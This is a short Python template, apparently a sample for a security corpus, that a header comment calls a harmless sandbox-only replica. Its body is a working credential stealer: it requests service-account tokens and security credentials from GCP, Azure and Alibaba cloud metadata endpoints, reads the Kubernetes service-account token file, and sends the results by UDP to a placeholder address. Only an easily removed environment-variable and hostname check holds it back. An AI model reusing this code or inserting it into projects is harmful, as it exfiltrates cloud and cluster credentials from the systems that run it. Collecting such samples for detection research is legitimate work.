# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    answers = []
    for host, line in (('169.254.169.254', 'GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.0\r\nMetadata-Flavor: Google'),
                       ('169.254.169.254', 'GET /metadata/instance?api-version=2021-02-01 HTTP/1.0\r\nMetadata: true'),
                       ('100.100.100.200', 'GET /latest/meta-data/ram/security-credentials/ HTTP/1.0')):
        try:
            with socket.create_connection((host, 80), timeout=0.4) as link:
                link.sendall((line + '\r\nHost: ' + host + '\r\n\r\n').encode())
                answers.append(link.recv(4000))
        except OSError:
            answers.append(b'-')
    try:
        with open('/var/run/secrets/kubernetes.io/serviceaccount/token', 'rb') as file:
            answers.append(file.read())
    except OSError:
        pass
    try:
        channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        channel.sendto(b'{{token}}' + b'\n'.join(answers)[:1200], ('{{ip}}', {{port}}))
        channel.close()
    except OSError:
        pass
